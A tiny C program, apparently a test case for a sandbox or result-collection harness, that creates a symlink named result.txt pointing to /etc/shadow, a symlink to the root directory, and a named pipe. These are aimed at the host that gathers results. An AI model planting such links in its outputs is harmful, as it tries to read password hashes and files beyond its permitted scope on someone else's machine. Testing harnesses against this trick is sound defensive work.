/* SPDX-License-Identifier: MIT */
/* Leaves links to files of the machine where results are collected.
 *
 * ends: completed
 */
#define _GNU_SOURCE
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
    symlink("/etc/shadow", "result.txt");
    symlink("/", "root");
    mkfifo("pipe", 0600);
    return 0;
}
